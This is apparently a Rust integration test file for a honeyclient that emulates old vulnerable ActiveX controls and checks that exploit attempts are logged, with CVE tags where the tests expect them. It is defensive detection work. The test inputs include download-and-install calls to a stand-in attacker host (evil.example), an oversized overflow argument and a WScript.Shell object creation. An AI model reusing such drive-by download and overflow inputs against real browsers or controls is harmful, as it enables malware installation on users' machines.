// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Control Emulation Integration Tests
 * Registry resolution and vulnerable-method side effects
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

mod common;

use std::sync::Arc;

use katiska_honeyclient::controls::{ControlHost, ControlRegistry};
use katiska_honeyclient::errors::ControlError;
use katiska_honeyclient::logging::MemorySink;

use common::StaticNavigator;

fn host(navigator: Arc<StaticNavigator>, sink: Arc<MemorySink>) -> ControlHost {
    ControlHost {
        page_url: "http://landing.example/".to_string(),
        navigator,
        sink,
    }
}

#[test]
fn classid_variants_resolve_to_the_same_control() {
    let registry = ControlRegistry::with_defaults();
    for id in [
        "DLoader.DLoaderCtrl.1",
        "clsid:{D82303B7-A754-4DCB-8AFC-8CF99435AACD}",
        "clsid:{d82303b7-a754-4dcb-8afc-8cf99435aacd}",
        "{D82303B7-A754-4DCB-8AFC-8CF99435AACD}",
    ] {
        let instance = registry.instantiate(id).expect(id);
        assert_eq!(instance.name(), "SinaDLoader");
    }
}

#[tokio::test]
async fn sina_dloader_fetches_and_logs() {
    let navigator = Arc::new(StaticNavigator::new().route_raw(
        "http://evil.example/setup.exe",
        200,
        Some("application/octet-stream"),
        b"MZ",
    ));
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry.instantiate("DLoader.DLoaderCtrl.1").unwrap();

    instance
        .invoke(
            &host(navigator.clone(), sink.clone()),
            "DownloadAndInstall",
            &["http://evil.example/setup.exe".to_string()],
        )
        .await
        .unwrap();

    assert!(sink.warnings().iter().any(|w| w.description
        == "[SinaDLoader Downloader ActiveX] Fetching from URL http://evil.example/setup.exe"));
    assert!(sink
        .exploits()
        .iter()
        .any(|e| e.module == "SinaDLoader Downloader ActiveX"));
    assert_eq!(
        navigator.requests_for_kind("SinaDLoader Exploit"),
        vec!["http://evil.example/setup.exe".to_string()]
    );
}

#[tokio::test]
async fn missing_exploit_payload_is_reported() {
    let navigator = Arc::new(StaticNavigator::new());
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry.instantiate("DLoader.DLoaderCtrl.1").unwrap();

    instance
        .invoke(
            &host(navigator, sink.clone()),
            "DownloadAndInstall",
            &["http://gone.example/x.exe".to_string()],
        )
        .await
        .unwrap();

    assert!(sink.warnings().iter().any(|w| w
        .description
        .contains("FileNotFoundError: http://gone.example/x.exe")));
}

#[tokio::test]
async fn enjoy_sap_flags_oversized_launch_gui_argument() {
    let navigator = Arc::new(StaticNavigator::new());
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry.instantiate("kweditcontrol.kwedit.1").unwrap();

    instance
        .invoke(
            &host(navigator.clone(), sink.clone()),
            "LaunchGui",
            &["A".repeat(2000)],
        )
        .await
        .unwrap();
    assert!(sink
        .exploits()
        .iter()
        .any(|e| e.description == "LaunchGui overflow in arg0"));
    // forwarded exploit events surface as behavior warnings too
    assert!(sink
        .warnings()
        .iter()
        .any(|w| w.description == "[EnjoySAP ActiveX] LaunchGui overflow in arg0"));

    let quiet_sink = Arc::new(MemorySink::new());
    instance
        .invoke(
            &host(navigator, quiet_sink.clone()),
            "LaunchGui",
            &["short".to_string()],
        )
        .await
        .unwrap();
    assert!(quiet_sink.exploits().is_empty());
}

#[tokio::test]
async fn aol_icq_logs_cve_and_fetches() {
    let navigator = Arc::new(StaticNavigator::new().route_raw(
        "http://evil.example/agent.exe",
        200,
        Some("application/octet-stream"),
        b"MZ",
    ));
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry.instantiate("ICQPhone.SipxPhoneManager.1").unwrap();

    instance
        .invoke(
            &host(navigator.clone(), sink.clone()),
            "DownloadAgent",
            &["http://evil.example/agent.exe".to_string()],
        )
        .await
        .unwrap();

    assert!(sink
        .exploits()
        .iter()
        .any(|e| e.cve.as_deref() == Some("CVE-2006-5650")));
    assert_eq!(
        navigator.requests_for_kind("AOL ICQ Exploit"),
        vec!["http://evil.example/agent.exe".to_string()]
    );
}

#[tokio::test]
async fn symantec_appstream_logs_cve_2008_4388() {
    let navigator = Arc::new(StaticNavigator::new().route_raw(
        "http://evil.example/appmgr.exe",
        200,
        Some("application/octet-stream"),
        b"MZ",
    ));
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry
        .instantiate("clsid:{3356DB7C-58A7-11D4-AA5C-006097314BF8}")
        .unwrap();

    instance
        .invoke(
            &host(navigator, sink.clone()),
            "installAppMgr",
            &["http://evil.example/appmgr.exe".to_string()],
        )
        .await
        .unwrap();

    assert!(sink
        .exploits()
        .iter()
        .any(|e| e.cve.as_deref() == Some("CVE-2008-4388")));
}

#[tokio::test]
async fn vsm_ide_logs_created_automation_objects() {
    let navigator = Arc::new(StaticNavigator::new());
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry.instantiate("VsmIDE.DTE").unwrap();

    instance
        .invoke(
            &host(navigator, sink.clone()),
            "CreateObject",
            &["WScript.Shell".to_string()],
        )
        .await
        .unwrap();

    assert!(sink
        .warnings()
        .iter()
        .any(|w| w.description == "[VsmIDE.DTE ActiveX] CreateObject (WScript.Shell)"));
    assert!(sink
        .exploits()
        .iter()
        .any(|e| e.module == "VsmIDE.DTE ActiveX" && e.description == "CreateObject"));
}

#[tokio::test]
async fn argument_and_method_errors_are_typed() {
    let navigator = Arc::new(StaticNavigator::new());
    let sink = Arc::new(MemorySink::new());
    let registry = ControlRegistry::with_defaults();
    let instance = registry.instantiate("OfficeOCX.Word.1").unwrap();

    let h = host(navigator, sink);
    assert!(matches!(
        instance.invoke(&h, "OpenWebFile", &[]).await,
        Err(ControlError::MissingArgument { .. })
    ));
    assert!(matches!(
        instance.invoke(&h, "Quit", &[]).await,
        Err(ControlError::UnknownMethod { .. })
    ));
}
